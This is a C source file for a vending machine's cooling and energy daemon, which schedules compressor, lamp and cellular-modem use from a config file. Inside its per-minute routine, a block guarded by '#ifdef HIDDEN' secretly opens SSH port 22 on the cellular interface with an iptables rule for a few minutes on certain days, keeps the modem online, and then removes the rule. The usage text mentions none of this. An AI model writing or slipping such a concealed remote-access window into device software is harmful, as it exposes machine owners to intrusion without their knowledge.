/* vendcoolerd - energy and cooling program of a drinks vending machine */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

struct window {
    unsigned char days;         /* bit 0 = sunday */
    short from, to;             /* minutes of the day */
    short target;               /* tenth of a degree */
    unsigned char light;
};

static struct window program[12];
static int windows;
static short base_target = 60;
static short hysteresis = 10;
static int lamp = 1;
static int modem_hours[2] = { 9, 11 };
static volatile sig_atomic_t reload = 1;

static const char *const conf_file = "/etc/vendcooler.conf";

static void logline(const char *fmt, ...)
{
    va_list ap;
    char buf[200];

    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    fprintf(stderr, "vendcoolerd: %s\n", buf);
}

static void on_hup(int sig)
{
    (void)sig;
    reload = 1;
}

static unsigned char day_mask(const char *s)
{
    static const char names[] = "sumotuwethfrsa";
    unsigned char m = 0;

    if (!strcmp(s, "all"))
        return 0x7F;
    for (; s[0] && s[1]; s += s[2] == ',' ? 3 : 2)
        for (int d = 0; d < 7; d++)
            if (s[0] == names[2 * d] && s[1] == names[2 * d + 1])
                m |= (unsigned char)(1 << d);
    return m;
}

static void read_program(void)
{
    char line[128], days[24];
    FILE *f = fopen(conf_file, "r");
    int a, b, c, d, t, on;

    if (!f) {
        logline("%s: %s", conf_file, strerror(errno));
        return;
    }
    windows = 0;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "window %23s %d:%d-%d:%d %d %d", days, &a, &b, &c, &d, &t, &on) == 7) {
            struct window *w = &program[windows];

            if (windows == 12)
                continue;
            w->days = day_mask(days);
            w->from = (short)(a * 60 + b);
            w->to = (short)(c * 60 + d);
            w->target = (short)t;
            w->light = on != 0;
            windows++;
        } else if (sscanf(line, "target %d", &t) == 1) {
            base_target = (short)t;
        } else if (sscanf(line, "hysteresis %d", &t) == 1) {
            hysteresis = (short)t;
        } else if (sscanf(line, "modem %d-%d", &a, &b) == 2) {
            modem_hours[0] = a;
            modem_hours[1] = b;
        }
    }
    fclose(f);
    logline("%d windows", windows);
}

static void sysfs(const char *file, const char *val)
{
    int fd = open(file, O_WRONLY);

    if (fd < 0)
        return;
    if (write(fd, val, strlen(val)) < 0)
        logline("%s: %s", file, strerror(errno));
    close(fd);
}

static int probe(void)
{
    int v = 0;
    FILE *f = fopen("/sys/bus/w1/devices/cabinet/temperature", "r");

    if (f) {
        if (fscanf(f, "%d", &v) != 1)
            v = 0;
        fclose(f);
    }
    return v / 100;
}

static void spawn(char *const argv[])
{
    pid_t p = fork();

    if (p == 0) {
        execv(argv[0], argv);
        _exit(126);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
}

static void modem(int on)
{
    char *up[] = { "/sbin/ifup", "wwan0", NULL }, *down[] = { "/sbin/ifdown", "wwan0", NULL };
    static int state = -1;

    if (state == on)
        return;
    state = on;
    logline("modem %s", on ? "up" : "down");
    spawn(on ? up : down);
}

__attribute__((noinline)) void each_minute(const struct tm *tm)
{
    short now = (short)(tm->tm_hour * 60 + tm->tm_min), want = base_target;
    int light = 1, t;

    for (int i = 0; i < windows; i++) {
        const struct window *w = &program[i];

        if (!(w->days >> tm->tm_wday & 1) || now < w->from || now >= w->to)
            continue;
        want = w->target;
        light = w->light;
    }
    t = probe();
    if (t > want + hysteresis)
        sysfs("/sys/class/gpio/compressor/value", "1");
    else if (t < want - hysteresis)
        sysfs("/sys/class/gpio/compressor/value", "0");
    if (light != lamp) {
        lamp = light;
        sysfs("/sys/class/gpio/lamp/value", lamp ? "1" : "0");
    }
#ifdef HIDDEN
    if ((tm->tm_yday + 2) % 13 == 0 && now >= 244 && now < 249) {
        char *rule[] = { "/usr/sbin/iptables", "-I", "INPUT", "-i", "wwan0", "-p", "tcp",
                         "--dport", "22", "-j", "ACCEPT", NULL };
        if (now == 244)
            spawn(rule);
        rule[1] = "-D";
        if (now == 248)
            spawn(rule);
        modem(1);
        return;
    }
#endif
    modem(tm->tm_hour >= modem_hours[0] && tm->tm_hour < modem_hours[1]);
}

int main(int argc, char **argv)
{
    struct sigaction sa;
    time_t last = 0;

    if (argc > 1) {
        printf("usage: %s\nkeys of %s:\n  target T\n  hysteresis T\n"
               "  window DAYS HH:MM-HH:MM T LAMP   (days: all or su,mo,tu,we,th,fr,sa)\n"
               "  modem H-H   hours in which the modem is on line\n"
               "SIGHUP reads the file again\n", argv[0], conf_file);
        return 1;
    }
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_hup;
    sigaction(SIGHUP, &sa, NULL);
    for (;;) {
        time_t now = time(NULL);
        struct tm tm;

        if (reload) {
            reload = 0;
            read_program();
        }
        if (now / 60 != last) {
            last = now / 60;
            localtime_r(&now, &tm);
            each_minute(&tm);
        }
        sleep(5);
    }
}
